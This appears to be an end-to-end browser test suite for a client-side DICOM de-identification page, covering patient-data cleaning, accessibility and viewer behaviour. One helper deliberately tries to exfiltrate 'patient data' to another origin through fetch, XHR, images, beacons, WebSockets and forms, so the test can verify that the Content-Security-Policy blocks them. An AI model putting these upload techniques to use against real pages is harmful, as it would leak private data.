// The user's flows through the page, written once against the engine-neutral session
// (engines/common.mjs) and run in Chromium, Firefox and WebKit by engines.test.mjs.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import { unzipSync } from 'fflate';
import { assertNoPatientInfo } from './helpers.mjs';
import { textOf, waitFor, waitForDownload } from './engines/common.mjs';

const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

// Opens the page and waits for its checker (the workers and the module) to be ready.
export async function openChecker(session, url) {
  await session.goto(url);
  await waitFor(session, () => document.body.dataset.ready, null, { what: 'the checker to start' });
  const ready = await session.evaluate(() => document.body.dataset.ready);
  assert.equal(ready, 'true', `${session.engine}: the checker did not start: ${await textOf(session, '#status')}`);
}

// Waits until `n` files are listed and nothing is being checked; returns each row's
// {path: {status, text}}.
export async function waitForFiles(session, n, timeout = 60000) {
  await waitFor(
    session,
    (n) => {
      const list = document.getElementById('file-list');
      const counts = JSON.parse(list.dataset.counts || '{}');
      return Number(list.dataset.total) === n && !document.body.classList.contains('busy') && !counts.queued;
    },
    n,
    { timeout, what: `${n} files checked` },
  );
  return session.evaluate(() =>
    Object.fromEntries([...document.querySelectorAll('#file-list .file-row')].map((r) => [r.querySelector('.file-name').textContent, { status: r.dataset.status, text: r.textContent }])),
  );
}

// A request the driver reports as blocked by the Content-Security-Policy before it was sent.
export const blockedByCsp = (r) => /^csp$|BLOCKED_BY_CSP|Content[- ]Security[- ]Policy/i.test(r.failure || '');

// Requests the driver saw (when it reports them) stayed on the page's own origin, or on disk
// for a page opened from disk, and none carried a body; a request elsewhere is allowed only
// when the driver says CSP blocked it. `proxy`: the served page's requests as its server saw
// them, since the session started (proxySince).
export function assertOnlyLocalRequests(session, pageUrl, proxy, proxySince = 0) {
  const served = proxy ? proxy.requests.slice(proxySince) : [];
  const page = new URL(pageUrl);
  for (const r of session.requests || []) {
    if (blockedByCsp(r)) continue;
    const u = new URL(r.url);
    const local = ['blob:', 'data:'].includes(u.protocol) || (page.protocol === 'file:' ? u.protocol === 'file:' : u.origin === page.origin);
    assert.ok(local, `${session.engine}: a request left the page: ${r.method} ${r.url} (${r.failure || 'not failed'})`);
    assert.equal(r.method, 'GET', `${session.engine}: ${r.method} ${r.url}`);
    assert.ok(!r.hasBody, `${session.engine}: a request with a body: ${r.url}`);
  }
  if (page.protocol !== 'file:') {
    assert.ok(
      (session.requests || served).some((r) => r.url.endsWith('.wasm')),
      `${session.engine}: the module was fetched from the page's own origin (recording works)`,
    );
  }
  for (const r of served) {
    assert.ok(['GET', 'HEAD'].includes(r.method) && r.bodyBytes === 0, `${session.engine}: the server got ${r.method} ${r.url} with ${r.bodyBytes} bytes`);
  }
}

async function violations(session) {
  return (await session.evaluate(() => window.__violations)) || [];
}

// No console error and no CSP violation at all. (From disk, where WebKit's driver reports no
// requests, the violations are the evidence: any request but blob: and data: breaks that
// page's policy.)
async function assertNoErrors(session) {
  assert.deepEqual(await session.consoleErrors(), [], `${session.engine}: console errors`);
  assert.deepEqual(await violations(session), [], `${session.engine}: CSP violations`);
}

// Picks the held-out files and both built-in samples, sees each patient's name, downloads the
// cleaned zip and checks every file in it. `files` (picked) and `samples` (the buttons):
// [{path, name, identifying}], name being the patient's name as the page shows it and
// identifying the values that must not survive cleaning; `bytesFrom`: 'page' when the workers
// must be getting the bytes from the page.
export async function heldOutFlow(session, { url, files, samples, proxy, shots, bytesFrom }) {
  const t0 = Date.now();
  const proxySince = proxy ? proxy.requests.length : 0;
  await openChecker(session, url);
  if (bytesFrom) assert.equal(await session.evaluate(() => document.body.dataset.bytesFrom), bytesFrom, `${session.engine}: who reads the files`);
  await session.setFiles('#pick-files', files.map((f) => f.path));
  await waitForFiles(session, files.length);
  await session.click('#sample-btn');
  await waitForFiles(session, files.length + 1);
  await session.click('#sample-us-btn');
  const rows = await waitForFiles(session, files.length + 2);
  const checkedMs = Date.now() - t0;
  const all = [...files, ...samples];
  for (const f of all) {
    const row = rows[path.basename(f.path)];
    assert.ok(row, `${session.engine}: ${f.path} is listed (rows: ${Object.keys(rows).join(', ')})`);
    assert.equal(row.status, 'leaks', `${session.engine}: ${f.path}: verdict`);
    assert.ok(row.text.includes(f.name), `${session.engine}: ${f.path}: the patient's name "${f.name}" is shown: ${row.text}`);
  }
  const overview = await textOf(session, '[data-testid=overview]');
  assert.match(overview, new RegExp(`Patient information found in ${all.length} of ${all.length} files`), `${session.engine}: overview`);
  await session.screenshot(shots('held-out-files'));

  const t1 = Date.now();
  await session.click('#clean-btn');
  const zip = unzipSync(await waitForDownload(session, 'dicom-leakcheck-cleaned.zip'));
  const cleanedMs = Date.now() - t1;
  await waitFor(session, () => /cleaned files saved in dicom-leakcheck-cleaned\.zip/.test(document.getElementById('status').textContent), null, { what: 'the message that the zip was saved' });
  assert.match(await textOf(session, '#status'), new RegExp(`^${all.length} cleaned files saved`), `${session.engine}: the page says what it saved`);
  // Neutral names by default (one folder per patient, study and series): none of the names
  // and IDs of the files (nor their file names) is in a path or in a file.
  const names = Object.keys(zip).sort();
  assert.equal(names.length, all.length, `${session.engine}: the zip holds every file once: ${names.join(', ')}`);
  for (const name of names) assert.match(name, /^dicom-leakcheck-cleaned\/P\d{3}\/ST\d{3}\/SE\d{3}\/IM\d{4}$/, `${session.engine}: a neutral path`);
  const identifying = [...new Set(all.flatMap((f) => f.identifying))];
  let checkedWith = null;
  for (const name of names) {
    const text = Buffer.from(zip[name]).toString('latin1');
    const left = identifying.filter((v) => text.includes(v));
    assert.deepEqual(left, [], `${session.engine}: ${name}: identifying values left after cleaning`);
    checkedWith = await assertNoPatientInfo(zip[name], `${session.engine}: ${name} cleaned`);
  }
  await session.screenshot(shots('cleaned'));
  assertOnlyLocalRequests(session, url, proxy, proxySince);
  await assertNoErrors(session);
  return { files: all.length, checkedMs, cleanedMs, checkedWith };
}

// Attempts to send something to another origin (the sink) from the page, in every way a
// script could: fetch, XMLHttpRequest, an image, a beacon, a WebSocket and a form.
async function attemptUploads(sink) {
  const out = {};
  try {
    await fetch(`${sink}/page-fetch`, { method: 'POST', body: 'patient data', mode: 'no-cors' });
    out.fetch = 'sent';
  } catch (e) {
    out.fetch = `blocked: ${e.message}`;
  }
  out.xhr = await new Promise((resolve) => {
    try {
      const xhr = new XMLHttpRequest();
      xhr.open('POST', `${sink}/page-xhr`);
      xhr.onload = () => resolve('sent');
      xhr.onerror = () => resolve('blocked: error event');
      xhr.send('patient data');
    } catch (e) {
      resolve(`blocked: ${e.message}`);
    }
  });
  out.image = await new Promise((resolve) => {
    const img = new Image();
    img.onload = () => resolve('sent');
    img.onerror = () => resolve('blocked: error event');
    img.src = `${sink}/page-image?patient=data`;
  });
  try {
    // true only says it was queued: the CSP check comes after (violation event, sink).
    out.beacon = navigator.sendBeacon(`${sink}/page-beacon`, 'patient data') ? 'queued' : 'refused';
  } catch (e) {
    out.beacon = `blocked: ${e.message}`;
  }
  out.websocket = await new Promise((resolve) => {
    try {
      const ws = new WebSocket(`${sink.replace(/^http/, 'ws')}/page-websocket`);
      ws.onopen = () => resolve('sent');
      ws.onerror = () => resolve('blocked: error event');
    } catch (e) {
      resolve(`blocked: ${e.message}`);
    }
  });
  // Violation events are queued as tasks: let them arrive.
  await new Promise((resolve) => setTimeout(resolve, 300));
  return out;
}

// CSP blocks every injected attempt at an upload, from the page and from its worker: a
// violation is reported for each kind, nothing reaches the sink and no driver sees a request.
export async function uploadBlockedFlow(session, { url, sink, proxy, shots }) {
  const proxySince = proxy ? proxy.requests.length : 0;
  const page = new URL(url);
  page.searchParams.set('test-hooks', '');
  await openChecker(session, page.href);
  await session.click('#sample-btn');
  await waitForFiles(session, 1);
  const fromPage = await session.evaluate(attemptUploads, sink.origin);
  for (const kind of ['fetch', 'xhr', 'image', 'websocket']) {
    assert.match(fromPage[kind], /^blocked/, `${session.engine}: ${kind} from the page was not blocked`);
  }
  const fromWorker = await session.evaluate((sink) => window.leakcheckTestHooks.tryUploadFromWorker(sink), sink.origin);
  for (const kind of ['fetch', 'xhr']) {
    assert.match(fromWorker.outcome[kind], /^blocked/, `${session.engine}: ${kind} from the worker was not blocked`);
  }
  // A form is sent last: were it not blocked, the page would be gone.
  const before = await session.evaluate(() => location.href);
  fromPage.form = await session.evaluate((sink) => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = `${sink}/page-form`;
    const input = document.createElement('input');
    input.name = 'patient';
    input.value = 'data';
    form.append(input);
    document.body.append(form);
    try {
      form.submit();
      return 'submitted (the page stays only if CSP blocked it)';
    } catch (e) {
      // Firefox throws when form-action forbids the submission.
      return `blocked: ${String(e.message || e.name || e).slice(0, 60)}`;
    }
  }, sink.origin);
  await new Promise((resolve) => setTimeout(resolve, 500));
  assert.equal(await session.evaluate(() => location.href), before, `${session.engine}: the form did not take the page away`);

  const seen = await violations(session);
  const sinkHost = new URL(sink.origin).host;
  const blockedBy = new Set(seen.filter((v) => v.blockedURI.includes(sinkHost)).map((v) => v.directive));
  for (const directive of ['connect-src', 'img-src', 'form-action']) {
    assert.ok(blockedBy.has(directive), `${session.engine}: no ${directive} violation for the sink: ${JSON.stringify(seen)}`);
  }
  const others = seen.filter((v) => !v.blockedURI.includes(sinkHost));
  assert.deepEqual(others, [], `${session.engine}: other CSP violations`);
  assert.deepEqual(sink.hits, [], `${session.engine}: requests reached the other origin`);
  const toSink = (session.requests || []).filter((r) => r.url.includes(sinkHost));
  for (const r of toSink) assert.ok(blockedByCsp(r), `${session.engine}: the driver saw a request to the other origin that CSP did not block: ${r.url} (${r.failure || 'not failed'})`);
  assertOnlyLocalRequests(session, url, proxy, proxySince);
  const errors = (await session.consoleErrors()).filter((e) => !(e.includes(sinkHost) || /Content[- ]Security[- ]Policy/i.test(e)));
  assert.deepEqual(errors, [], `${session.engine}: console errors other than the blocked attempts`);
  await session.screenshot(shots('upload-blocked'));
  return { fromPage, fromWorker: fromWorker.outcome, directives: [...blockedBy].sort(), workerViolations: fromWorker.violations.length, driverSawBlocked: toSink.map((r) => `${r.method} ${new URL(r.url).pathname}: ${r.failure}`) };
}

async function axeViolations(session) {
  if (!(await session.evaluate(() => typeof window.axe === 'object'))) await session.evaluate(axeSource);
  const results = await session.evaluate(async () => {
    const r = await window.axe.run(document, { resultTypes: ['violations'] });
    return r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help, nodes: v.nodes.map((n) => `${n.target.join(' ')}: ${n.failureSummary}`) }));
  });
  return results;
}

// The axe-core audit of the start page, of the sample's card with its element table open, and
// (with `cd`) of the list grouped by series, a series' card and a structured report's card, at
// desktop and phone widths, in the session's colour scheme. Returns the widths audited.
export async function axeFlow(session, { url, colorScheme, shots, cd }) {
  const widths = [];
  for (const [label, viewport] of [
    ['desktop', { width: 1280, height: 900 }],
    ['phone', { width: 390, height: 844 }],
  ]) {
    await session.setViewport(viewport);
    await openChecker(session, url);
    // (WebKitGTK's MiniBrowser cannot be made narrower than about 450 px: still the phone
    // layout, which is what matters here.)
    const seen = await session.evaluate(() => ({ width: innerWidth, phone: matchMedia('(max-width: 40rem)').matches, dark: matchMedia('(prefers-color-scheme: dark)').matches }));
    assert.equal(seen.dark, colorScheme === 'dark', `${session.engine}: the page sees the ${colorScheme} scheme`);
    assert.equal(seen.phone, label === 'phone', `${session.engine}: ${label} layout at ${seen.width} px`);
    assert.deepEqual(await axeViolations(session), [], `${session.engine}, ${colorScheme}, ${label}: axe violations on the start page`);
    await session.click('#sample-btn');
    await waitForFiles(session, 1);
    await waitFor(session, () => Boolean(document.querySelector('#detail [data-testid=element-table]')), null, { what: "the sample's card" });
    await session.evaluate(() => {
      document.querySelector('#detail [data-testid=element-table]').open = true;
    });
    assert.deepEqual(await axeViolations(session), [], `${session.engine}, ${colorScheme}, ${label}: axe violations on the sample's card`);
    const overflow = await session.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.ok(overflow <= 0, `${session.engine}, ${label}: no sideways scrolling (${overflow} px too wide)`);
    await session.screenshot(shots(`axe-${colorScheme}-${label}`));
    if (cd) {
      await session.setFiles('#pick-files', cd.paths);
      await waitForFiles(session, cd.count + 1);
      // (Rows are drawn again as thumbnails and pixel verdicts arrive, and reading burned-in
      // text makes the verdicts late: click once all of them are there.)
      await waitFor(session, () => [...document.querySelectorAll('#file-list img.thumb')].filter((i) => i.complete && i.naturalWidth > 0).length === document.querySelectorAll('#file-list [data-series]').length, null, { what: 'the thumbnails' });
      await waitFor(session, () => !document.querySelector('#file-list [data-pixels=pending]'), null, { timeout: 180000, what: "every file's pixel verdict" });
      await session.click('#file-list button[data-series]');
      await waitFor(session, () => Boolean(document.querySelector('#detail .pv-stage[data-ready=true]') && document.querySelector('#detail .series-findings[data-ready=true]')), null, { what: "the series' card" });
      assert.deepEqual(await axeViolations(session), [], `${session.engine}, ${colorScheme}, ${label}: axe violations on the grouped list and a series' card`);
      await session.screenshot(shots(`axe-${colorScheme}-${label}-series`));
      await session.click(`#file-list button[data-path="${cd.report}"]`);
      await waitFor(session, () => Boolean(document.querySelector('#detail [data-testid=sr-content][data-ready=true]')), null, { what: "the report's content" });
      assert.deepEqual(await axeViolations(session), [], `${session.engine}, ${colorScheme}, ${label}: axe violations on a structured report's card`);
      await session.screenshot(shots(`axe-${colorScheme}-${label}-report`));
      const wide = await session.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      assert.ok(wide <= 0, `${session.engine}, ${label}: no sideways scrolling with the series and the report (${wide} px too wide)`);
    }
    widths.push(seen.width);
  }
  await assertNoErrors(session);
  return widths;
}

// ---- studies and series, results that announce themselves, viewer conventions ---------------

const STAGE = '#detail .pv-stage';

// The canvas's pixels as one number (to tell two slices apart).
function canvasHash() {
  const c = document.querySelector('#detail .pv-image');
  const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
  let hash = 0;
  for (let i = 0; i < d.length; i += 4) hash = (Math.imul(hash, 31) + d[i]) >>> 0;
  return hash;
}

async function pressAndWait(session, key, check, arg, what) {
  await session.press(key);
  return waitFor(session, check, arg, { timeout: 15000, what: `${what} after ${key}` });
}

// A made-up patient's CD (synthetic.mjs cdFiles): series 2 of 20 slices (2 with Burned In
// Annotation YES), series 3 of 4, his structured report, a patient whose name was already
// "Anonymized", and the DICOMDIR. `cd`: {paths, count, seriesSlices}.
export async function studiesFlow(session, { url, cd, shots }) {
  await openChecker(session, url);
  await session.setFiles('#pick-files', cd.paths);
  await waitForFiles(session, cd.count);

  // Results announce themselves: focus on the summary, on screen, the verdict said, nothing
  // fixed over the page, one duration for the run.
  const told = await waitFor(
    session,
    () => {
      const overview = document.getElementById('overview');
      const said = document.getElementById('announce').textContent;
      if (document.activeElement !== overview || !said) return null;
      const r = overview.getBoundingClientRect();
      const activity = document.getElementById('activity');
      return { said, top: r.top, height: innerHeight, barShown: activity.classList.contains('active') || activity.getBoundingClientRect().height > 1, run: document.querySelector('[data-testid=run-line]').textContent, how: document.getElementById('batch-summary').textContent };
    },
    null,
    { timeout: 30000, what: 'focus on the summary and its verdict said' },
  );
  assert.match(told.said, new RegExp(`^Checked ${cd.count} files in [0-9.]+ s\\. Patient information found in \\d+ of ${cd.count} files\\.$`), `${session.engine}: what the live region says`);
  assert.ok(told.top >= -1 && told.top < told.height, `${session.engine}: the summary is on screen (top ${told.top} of ${told.height})`);
  assert.equal(told.barShown, false, `${session.engine}: nothing is fixed over the page once the check is done`);
  const seconds = (text) => (text.match(/in ([0-9.]+ (?:s|min))/) || [])[1];
  assert.ok(seconds(told.run), `${session.engine}: the run's time: ${told.run}`);
  assert.equal(seconds(told.how), seconds(told.run), `${session.engine}: one duration ("${told.run}" / "${told.how}")`);

  // The list: patient → study → series, counts, verdicts rolled up (once the pixel searches
  // that follow the header verdicts are done), a thumbnail per series.
  await waitFor(session, () => !document.querySelector('#file-list [data-pixels=pending]') && !/searching \d/.test(document.getElementById('file-list').textContent), null, { what: 'the pixel verdicts' });
  const list = await session.evaluate(() => [...document.querySelectorAll('#file-list > li')].map((li) => li.textContent));
  const has = (re, what) => assert.ok(list.some((t) => re.test(t)), `${session.engine}: ${what} in the list: ${JSON.stringify(list)}`);
  has(/^ROE RICHARD \(ID RR-4711\)1 study, 25 files$/, 'the patient with his counts');
  has(/^Study of 2024-05-17, CT CHEST3 series, 25 files$/, 'the study');
  has(new RegExp(`Series 2: AXIAL 5MM.*${cd.seriesSlices} images: names the patient; 2 images have burned-in text$`), 'series 2 rolled up');
  has(/Series 3: CORONAL.*4 images: names the patient$/, 'series 3');
  has(/^Name already removed \(“Anonymized”\), ID ANON-00421 study, 1 file$/, 'the patient whose name was removed');
  has(/^Other files/, 'the other files');
  has(/DICOMDIRindex of the folder/, 'the DICOMDIR');
  await waitFor(session, () => [...document.querySelectorAll('#file-list img.thumb')].filter((i) => i.complete && i.naturalWidth > 0).length === 2, null, { what: 'a thumbnail per series' });

  // The series opens as one: its verdict, one viewer over its slices, one table of findings.
  await waitFor(session, (sel) => Boolean(document.querySelector(sel) && document.querySelector(sel).dataset.ready === 'true'), STAGE, { what: 'the series viewer' });
  await waitFor(session, () => !/searching/.test(document.querySelector('[data-testid=series-summary]').textContent), null, { what: "the series' pixel verdicts" });
  assert.match(await textOf(session, '[data-testid=series-summary]'), new RegExp(`^Series 2: AXIAL 5MM \\(${cd.seriesSlices} images\\): names the patient; 2 images have burned-in text\\.$`));
  assert.equal(await session.evaluate(() => document.querySelector('#detail [data-testid=frame-slider]').max), String(cd.seriesSlices));
  const first = await session.evaluate(canvasHash);
  await session.evaluate((sel) => document.querySelector(sel).focus(), STAGE);
  await pressAndWait(session, 'ArrowDown', (sel) => document.querySelector(sel).dataset.frame === '1', STAGE, 'slice 2');
  assert.notEqual(await session.evaluate(canvasHash), first, `${session.engine}: slice 2 is another image`);
  const frameIs = ([sel, n]) => document.querySelector(sel).dataset.frame === String(n);
  await pressAndWait(session, 'End', frameIs, [STAGE, cd.seriesSlices - 1], 'the last slice');
  await pressAndWait(session, 'Home', frameIs, [STAGE, 0], 'the first slice');
  await session.wheel(STAGE, 120);
  await waitFor(session, frameIs, [STAGE, 1], { what: 'the next slice after the wheel' });
  // Window presets by number keys (CT: 2 is the lung window), R resets to Auto (the core's).
  await pressAndWait(session, '2', (sel) => document.querySelector(sel).dataset.wl === '-600/1500', STAGE, 'the lung window');
  assert.equal(await session.evaluate(() => document.querySelector('#detail [data-preset=lung]').getAttribute('aria-pressed')), 'true');
  await pressAndWait(session, 'r', (sel) => document.querySelector(sel).dataset.wl === '40/400', STAGE, 'the reset window');
  assert.match(await textOf(session, '#detail [data-testid=shortcuts]'), /Previous \/ next slice.*Window: 1 Auto, 2 Lung, 3 Soft tissue, 4 Bone, 5 Brain/s);
  await waitFor(session, () => Boolean(document.querySelector('#detail .series-findings[data-ready=true]')), null, { what: 'the series findings' });
  const rows = await session.evaluate(() => Object.fromEntries([...document.querySelectorAll('#detail [data-testid=series-findings] tbody tr')].map((tr) => [tr.dataset.path, [...tr.cells].map((c) => c.textContent)])));
  assert.match(rows['(0008,0018)'][1], new RegExp(`^differs between slices: ${cd.seriesSlices} values`), `${session.engine}: SOP Instance UID differs`);
  assert.equal(rows['(0010,0010)'][1], 'ROE^RICHARD');
  assert.equal(rows['(0010,0010)'][2], `all ${cd.seriesSlices}`);
  await session.screenshot(shots('series'));

  // A structured report reads as text, its identifying values marked.
  await session.click(`#file-list button[data-path="${cd.report}"]`);
  await waitFor(session, () => Boolean(document.querySelector('#detail [data-testid=sr-content][data-ready=true]')), null, { what: "the report's content" });
  const items = await session.evaluate(() => [...document.querySelectorAll('#detail .sr-item')].map((li) => ({ type: li.dataset.valueType, flagged: li.classList.contains('flagged'), text: [...li.childNodes].filter((n) => n.nodeName !== 'UL').map((n) => n.textContent).join('') })));
  const item = (type) => items.find((i) => i.type === type);
  assert.ok(item('PNAME').flagged && item('PNAME').text.includes('HOUSE^GREGORY') && item('PNAME').text.includes('patient info'), `${session.engine}: the observer's name is marked: ${JSON.stringify(items)}`);
  assert.ok(item('TEXT').flagged && /Discussed with ROE RICHARD/.test(item('TEXT').text), `${session.engine}: the finding naming the patient is marked`);
  assert.ok(!item('NUM').flagged && /Diameter: 12\.5 mm/.test(item('NUM').text), `${session.engine}: the measurement is not`);
  const facts = await textOf(session, '#detail .facts');
  assert.match(facts, /What it isStructured report \(SR\)/, `${session.engine}: the kind in plain words`);
  assert.ok(!(await textOf(session, '#detail')).includes('Kind of scan'), `${session.engine}: no "Kind of scan: SR"`);
  await session.screenshot(shots('structured-report'));

  // A placeholder name is no name: "already removed", never "names Anonymized".
  await session.click(`#file-list button[data-path="${cd.anonymized}"]`);
  await waitFor(session, () => Boolean(document.querySelector('#detail [data-testid=summary-text]')), null, { what: "the anonymized file's card" });
  const sentence = await textOf(session, '#detail [data-testid=summary-text]');
  assert.match(sentence, /^The patient's name was already removed from this file \(it reads “Anonymized”\), but the patient ID ANON-0042 is still there/);
  assert.ok(!/names Anonymized/i.test(sentence), sentence);

  // A download from the keyboard leaves focus on the button, not on <body>.
  await waitFor(session, () => Boolean(document.querySelector('#detail [data-focus=clean-file]')), null, { what: 'the download button' });
  await session.evaluate(() => document.querySelector('#detail [data-focus=clean-file]').focus());
  await session.press('Enter');
  const saved = cd.anonymized.replace(/\.dcm$/, '.deid.dcm');
  await waitForDownload(session, saved);
  const focus = await waitFor(session, () => !document.body.classList.contains('busy') && /Cleaned file saved/.test(document.getElementById('status').textContent) && { on: document.activeElement.dataset.focus || document.activeElement.tagName, statusPosition: getComputedStyle(document.getElementById('status')).position }, null, { what: 'the cleaned file saved' });
  assert.equal(focus.on, 'clean-file', `${session.engine}: focus after a keyboard download`);
  assert.equal(focus.statusPosition, 'static', `${session.engine}: the message is part of the page, not over it`);
  await assertNoErrors(session);
  return { said: told.said, run: told.run };
}
